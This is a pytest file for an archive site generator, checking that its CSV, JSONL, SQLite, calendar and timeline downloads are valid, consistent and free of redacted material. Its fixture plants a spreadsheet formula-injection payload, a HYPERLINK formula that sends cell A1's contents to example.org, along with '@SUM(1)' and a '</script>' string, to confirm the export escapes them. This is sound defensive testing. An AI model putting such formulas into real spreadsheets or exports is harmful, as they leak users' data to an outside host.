"""The files to download, as the programs that they are for read them."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import icalendar
import pytest

from archivegen.data.calendar import _folded
from archivegen.downloads import FORMATS, SINGLE, TABLES, downloads

if TYPE_CHECKING:
    from conftest import Site

DOCS = Path(__file__).parents[1] / "docs" / "data.md"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"read"), and more'
HOSTILE = f"""---
title: '{FORMULA}'
published: 2018-08-21
source: '@SUM(1)'
byline: "Zoë \\"Q\\" Šik; | x"
actors: [Sergey Lavrov]
---

Sergey Lavrov said </script> “so” on 4 September 2018, 100% {{sure}}; commas, too \\ backslash.
"""


def lines(site: Site, table: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in site.page(f"data/{table}.jsonl").splitlines()]


def rows(site: Site, table: str) -> list[dict[str, str]]:
    with (site.root / "site" / "data" / f"{table}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def run(site: Site, *command: str) -> str:
    """Run a program of Python's on the folder of the files."""
    ran = subprocess.run(
        [sys.executable, "-W", "ignore", "-m", *command],
        cwd=site.root / "site" / "data", capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stdout + ran.stderr
    return ran.stdout


@pytest.fixture
def full(sample: Site) -> Site:
    """The sample with an article that would do harm in a spreadsheet."""
    sample.write("seeds/harm.md", HOSTILE)
    sample.built()
    return sample


def test_frictionless_finds_the_package_valid(full: Site) -> None:
    report = json.loads(run(full, "frictionless", "validate", "datapackage.json", "--json"))
    assert report["valid"], json.dumps(report["tasks"], indent=1)
    names = {task["place"] for task in report["tasks"]}
    assert names == {file.name for file in downloads(FORMATS)} - {"datapackage.json"}


def test_the_tables_say_the_same_in_every_form(full: Site) -> None:
    with sqlite3.connect(full.root / "site" / "data" / "archive.db") as db:
        for table in TABLES:
            told = lines(full, table.name)
            assert told and [field.name for field in table.fields] == list(told[0])
            assert len(rows(full, table.name)) == len(told)
            query = f"SELECT {', '.join(field.name for field in table.fields)} FROM {table.name}"
            found = [list(row) for row in db.execute(query)]
            assert sorted(found, key=str) == sorted(
                ([json.dumps(v, separators=(",", ":"), ensure_ascii=False) if isinstance(v, list) else v
                  for v in row.values()] for row in told), key=str)  # fmt: skip
    db.close()
    articles = {row["id"]: row for row in lines(full, "articles")}
    assert all("text" not in row for row in rows(full, "articles"))
    moscow = articles["what-moscow-wants-in-afghanistan"]
    assert moscow["published"] == "2018-11-05" and moscow["outlet"] == "Northern Review"
    assert moscow["page"] == "https://example.org/moscow-talks/articles/what-moscow-wants-in-afghanistan/"
    assert "guest list" in moscow["text"]


def test_no_cell_of_a_spreadsheet_is_a_formula(full: Site) -> None:
    (harm,) = [row for row in rows(full, "articles") if "HYPERLINK" in row["title"]]
    assert harm["title"] == f"'{FORMULA}"
    assert harm["outlet"] == "'@SUM(1)"
    cells = (cell for table in TABLES for row in rows(full, table.name) for cell in row.values())
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    (exact,) = [row for row in lines(full, "articles") if "HYPERLINK" in row["title"]]
    assert exact["title"] == FORMULA and exact["outlet"] == "@SUM(1)"


def test_the_database_is_sound_and_searched_by_datasette(full: Site) -> None:
    with sqlite3.connect(full.root / "site" / "data" / "archive.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("PRAGMA foreign_key_check").fetchall() == []
        assert db.execute("SELECT count(*) FROM entry_actors").fetchone()[0] > 50
        said = "SELECT title FROM articles WHERE rowid IN (SELECT rowid FROM articles_fts WHERE articles_fts MATCH ?)"
        assert db.execute(said, ('"guest list"',)).fetchall() == [("What Moscow wants in Afghanistan",)]
    db.close()
    answer = run(full, "datasette", "archive.db", "--get", "/archive/articles.json?_search=guest+list&_shape=array")
    assert [row["id"] for row in json.loads(answer)] == ["what-moscow-wants-in-afghanistan"]


def test_the_calendar_has_every_exact_day(full: Site) -> None:
    data = (full.root / "site" / "data" / "calendar.ics").read_bytes()
    assert max(map(len, data.split(b"\r\n"))) <= 75 and b"\n" not in data.replace(b"\r\n", b"")
    events = list(icalendar.Calendar.from_ical(data).walk("VEVENT"))
    exact = [entry for entry in lines(full, "entries") if re.fullmatch(r"\d{4}-\d\d-\d\d", entry["date"])]
    happened = [entry for entry in exact if entry["mood"] != "denied"]
    assert [str(event["DTSTART"].dt) for event in events] == [entry["date"] for entry in happened]
    assert len({str(event["UID"]) for event in events}) == len(events)
    assert {str(event["STATUS"]) for event in events} == {"CONFIRMED", "TENTATIVE"}
    said = {entry["text"] for entry in happened}
    assert all(str(event["DESCRIPTION"]).split("\n")[0] in said for event in events)
    assert all((event["DTEND"].dt - event["DTSTART"].dt).days == 1 for event in events)


def test_lines_are_folded_between_letters() -> None:
    line = "DESCRIPTION:" + "Пример أمينة 🌊 " * 20
    folded = _folded(line)
    assert all(len(part.decode().encode()) <= 75 for part in folded.split(b"\r\n")), "between letters"
    assert folded.replace(b"\r\n ", b"") == f"{line}\r\n".encode()
    ascii_line = "SUMMARY:" + "x" * 200
    assert _folded(ascii_line).replace(b"\r\n ", b"") == f"{ascii_line}\r\n".encode()


def test_the_timeline_is_what_timelinejs_takes(full: Site) -> None:
    told = json.loads(full.page("data/timeline.json"))
    assert told["title"]["text"]["headline"] == "Moscow talks" and 20 < len(told["events"]) <= 200
    dates = []
    for event in told["events"]:
        assert list(event["start_date"]) in (["year"], ["year", "month"], ["year", "month", "day"])
        assert not re.search(r"<(?!/?(?:p|a)\b)", event["text"]["text"]) and "<" not in event["text"]["headline"]
        dates.append(tuple(event["start_date"].values()))
    assert dates == sorted(dates)


def test_the_page_leads_to_every_file(full: Site) -> None:
    page = full.page("data/index.html")
    for file in downloads(FORMATS):
        assert f'href="{file.name}"' in page and (full.root / "site" / file.path).is_file()
    assert 'href="data/index.html"' in full.page("index.html")
    assert full.run("check").code == 0


@pytest.mark.parametrize("asked", ["false", "[sqlite]", "[jsonl, icalendar]"])
def test_only_what_is_asked_for_is_made(site: Site, asked: str) -> None:
    site.write("site.yaml", f"title: Talks\ndata: {asked}\n")
    names = {path.removeprefix("data/") for path in site.built() if path.startswith("data/")}
    formats = tuple(name for name in FORMATS if name in asked)
    assert names == {file.name for file in downloads(formats)} | ({"index.html"} if formats else set())
    assert ("data/index.html" in site.page("index.html")) is bool(formats)
    if formats:
        assert json.loads(run(site, "frictionless", "validate", "datapackage.json", "--json"))["valid"]
    assert site.run("check").code == 0


def test_an_archive_without_articles_has_empty_tables(empty_site: Site) -> None:
    empty_site.built()
    assert rows(empty_site, "articles") == [] and empty_site.page("data/articles.csv").startswith("id,title,outlet")
    package = json.loads(empty_site.page("data/datapackage.json"))
    assert "articles.csv" in {resource["path"] for resource in package["resources"]}
    assert json.loads(run(empty_site, "frictionless", "validate", "datapackage.json", "--json"))["valid"]
    assert list(icalendar.Calendar.from_ical(empty_site.page("data/calendar.ics")).walk("VEVENT")) == []


def test_files_are_made_again_only_when_the_archive_changed(site: Site) -> None:
    before = site.built()
    database = site.root / "site" / "data" / "archive.db"
    site.write("templates/parts/footer.html", "<footer>Other</footer>\n")
    made = database.stat().st_ino
    assert site.built()["data/archive.db"] == before["data/archive.db"] and database.stat().st_ino == made
    site.write("seeds/b.md", HOSTILE)
    after = site.built()
    assert after["data/archive.db"] != before["data/archive.db"] and "HYPERLINK" in site.page("data/articles.csv")
    database.unlink()
    assert site.built()["data/archive.db"] == after["data/archive.db"]
    (site.root / "seeds" / "b.md").unlink()
    (site.root / "templates" / "parts" / "footer.html").unlink()
    assert site.built() == before


def test_the_files_are_documented() -> None:
    text = DOCS.read_text(encoding="utf-8")
    assert set(re.findall(r"^\| `(\w+\.\w+)`", text, re.MULTILINE)) == {file.name for file in SINGLE} | {
        "datapackage.json"
    }
    for table in TABLES:
        assert f"| `{table.name}` | {table.about}" in text


def test_nothing_withdrawn_or_redacted_is_in_any_file(sample: Site) -> None:
    gone = "---\ntitle: Quixotic zeppelin lands\npublished: 2018-08-30\nstatus: {}\nnotice: At request.\n{}---\n\n"
    text = "Barnabas Quillfeather flew a zeppelin to Moscow on 30 August 2018. Barnabas Quillfeather waved."
    front = gone.format("withdrawn", "actors: [Barnabas Quillfeather]\n")
    sample.write("seeds/gone.md", front + text)
    named = gone.format("redacted", "redact: [Barnabas Quillfeather, Quillfeather]\n").replace("Quixotic", "Another")
    sample.write("seeds/named.md", named + text.replace("Moscow", "Kabul"))
    files = sample.built()
    for path, data in files.items():
        if path.startswith(("data/", "sitemap", "feed.")) or path.endswith(("feed.xml", "feed.json")):
            assert not re.search(rb"quixotic|quillfeather|barnabas", data, re.IGNORECASE), path
    assert [row["status"] for row in lines(sample, "articles") if row["status"]] == ["redacted"]
    assert "[redacted]" in sample.page("data/articles.jsonl")
